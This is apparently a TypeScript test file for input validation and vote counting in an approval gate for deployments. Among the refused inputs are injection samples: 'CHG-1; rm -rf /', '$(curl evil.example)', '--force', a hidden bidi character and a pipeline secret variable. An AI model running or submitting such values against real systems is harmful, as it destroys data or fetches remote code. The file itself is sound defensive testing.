import fc from 'fast-check';
import type { FieldRule, TextFieldRule } from '../../../contract/fields';
import { cleanText } from '../../../lambda/domain/clean-text';
import { countVotes } from '../../../lambda/domain/count-votes';
import {
  enteredValues,
  newestOf,
  valuesIn,
  valuesInWords,
  whyRefused,
  whyUnfilled,
} from '../../../lambda/domain/fields';
import { ANA, at, BO, CHOICE, filledIn, TICKET, voteOf } from '../samples';

const text = (more: Partial<TextFieldRule> = {}): TextFieldRule => ({
  kind: 'TEXT',
  name: 'note',
  label: 'Note',
  ...more,
});

describe('a value', () => {
  test.each<[string, FieldRule, string]>([
    ['of the form that the gate asks for', TICKET, 'CHG-1'],
    ['of letters of any language', text(), 'Änderung 12/3 größer'],
    ['with what addresses and versions need', text(), 'https://jira.example.com/browse/CHG-1 v1.2+3 ops@example.com'],
    ['that is as long as may be', text({ maxLength: 3 }), 'abc'],
    ['that may be left out', text({ optional: true }), ''],
    ['that is a choice', CHOICE, '50 %'],
  ])('%s is taken', (_, rule, value) => {
    expect(whyRefused(rule, value)).toBeUndefined();
  });

  test.each<[string, FieldRule, string, string]>([
    ['that is missing', TICKET, '', 'Change ticket: this is needed to approve.'],
    ['of another form', TICKET, 'CHG-x', 'Change ticket: As in CHG-1234'],
    ['that only begins as it should', TICKET, 'CHG-1; rm -rf /', 'Change ticket: As in CHG-1234'],
    ['of a form that nobody describes', text({ pattern: 'a+' }), 'b', 'Note: this does not have the form that'],
    ['for a shell', text(), '$(curl evil.example)', 'Note: this may hold letters, digits'],
    ['in quotes', text(), `it's`, 'Note: this may hold letters'],
    ['that looks like an option of a command', text(), '--force', 'Note: this may hold letters'],
    ['that is too long', text({ maxLength: 3 }), 'abcd', 'Note: this has 4 characters, 3 are the most.'],
    ['of two lines', text({ pattern: '[^]*' }), 'a\nb', 'Note: this does not have'],
    ['with something hidden in it', text({ pattern: '.*' }), 'a\u202eb', 'Note: this does not have'],
    ['that is a variable of the pipeline', text({ pattern: '.*' }), '#{Secrets.Key}', 'Note: this does not have'],
    ['that is no choice', CHOICE, '33 %', 'How much traffic first: choose one of 10 %, 50 %.'],
    ['that nobody chose', CHOICE, '', 'How much traffic first: this is needed to approve.'],
  ])('%s is refused', (_, rule, value, why) => {
    expect(whyRefused(rule, value)).toContain(why);
  });

  test('that is taken is one line with nothing hidden in it and no variable, whatever the pattern lets through', () => {
    const rule = text({ pattern: '[^]*', optional: true });
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 250 }), (value) => {
        if (whyRefused(rule, value) === undefined) {
          expect(cleanText(value, 200)).toBe(value);
          expect(value).not.toContain('#{');
        }
      }),
      { numRuns: 1_000 },
    );
  });

  test('that is taken by default holds nothing that a shell reads', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }), (value) => {
        if (value !== '' && whyRefused(text(), value) === undefined) {
          expect(value).not.toMatch(/^-|["'`$\\;&|<>(){}[\]*?~!#%=^\n]/);
        }
      }),
      { numRuns: 1_000 },
    );
  });
});

test('what was typed is cleaned, and what nobody asked for is left out', () => {
  const typed = { ticket: '  CHG-1\t ', traffic: '', other: 'x' };

  expect(valuesIn([TICKET, CHOICE], typed)).toEqual({ ticket: 'CHG-1' });
});

test('a name that every object has is a field like others', () => {
  const rule = text({ name: 'constructor' });

  expect(whyRefused(rule, '')).toContain('needed');
  expect(valuesIn([rule], {})).toEqual({});
  expect(enteredValues([rule], {})).toEqual({ constructor: '' });
});

test('later actions find a value for every field, an empty one where an optional field was left out', () => {
  const rules = [TICKET, text({ optional: true })];

  expect(enteredValues(rules, { ticket: 'CHG-1', other: 'x' })).toEqual({ ticket: 'CHG-1', note: '' });
  expect(valuesInWords(rules, { ticket: 'CHG-1' })).toBe('Change ticket: CHG-1');
});

describe('an approval', () => {
  const approval = (fields: Record<string, string>) => voteOf(ANA, 'APPROVE', 1, filledIn(fields));
  const counted = (vote: ReturnType<typeof voteOf>, rules?: readonly FieldRule[]) =>
    countVotes([{ person: ANA }], [vote], at(100), [], rules).approvals.length;

  test.each<[string, Record<string, string>, number]>([
    ['with what the gate asks for', { ticket: 'CHG-1', traffic: '10 %' }, 1],
    ['with more than that', { ticket: 'CHG-1', traffic: '10 %', other: 'x' }, 1],
    ['without a field', { ticket: 'CHG-1' }, 0],
    ['with another form', { ticket: 'soon', traffic: '10 %' }, 0],
    ['with what is no choice', { ticket: 'CHG-1', traffic: '100 %' }, 0],
  ])('%s counts accordingly', (_, fields, count) => {
    expect(counted(approval(fields), [TICKET, CHOICE])).toBe(count);
    expect(whyUnfilled([TICKET, CHOICE], approval(fields)) === undefined).toBe(count === 1);
  });

  test('needs nothing where the gate asks for nothing', () => {
    expect(counted(voteOf(ANA, 'APPROVE', 1))).toBe(1);
    expect(counted(approval({ ticket: 'CHG-1' }))).toBe(1);
  });

  test('a rejection needs no field', () => {
    expect(countVotes([{ person: ANA }], [voteOf(ANA, 'REJECT', 1)], at(100), [], [TICKET]).rejections).toHaveLength(1);
  });
});

describe('the newest approval', () => {
  test('is the same in whatever order they come', () => {
    const dated = fc.record({
      seq: fc.integer({ min: 0, max: 3 }),
      approver: fc.constantFrom(ANA.id, BO.id, 'c', 'd'),
    });
    const unique = fc.uniqueArray(dated, { selector: ({ approver }) => approver, minLength: 1 });
    fc.assert(
      fc.property(
        unique.chain((votes) => fc.tuple(fc.constant(votes), fc.shuffledSubarray(votes, { minLength: votes.length }))),
        ([votes, shuffled]) => {
          expect(newestOf(shuffled)).toEqual(newestOf(votes));
          expect(votes.every(({ seq }) => seq <= newestOf(votes)!.seq)).toBe(true);
        },
      ),
    );
  });

  test('is nobody’s where there is none', () => {
    expect(newestOf([])).toBeUndefined();
  });
});
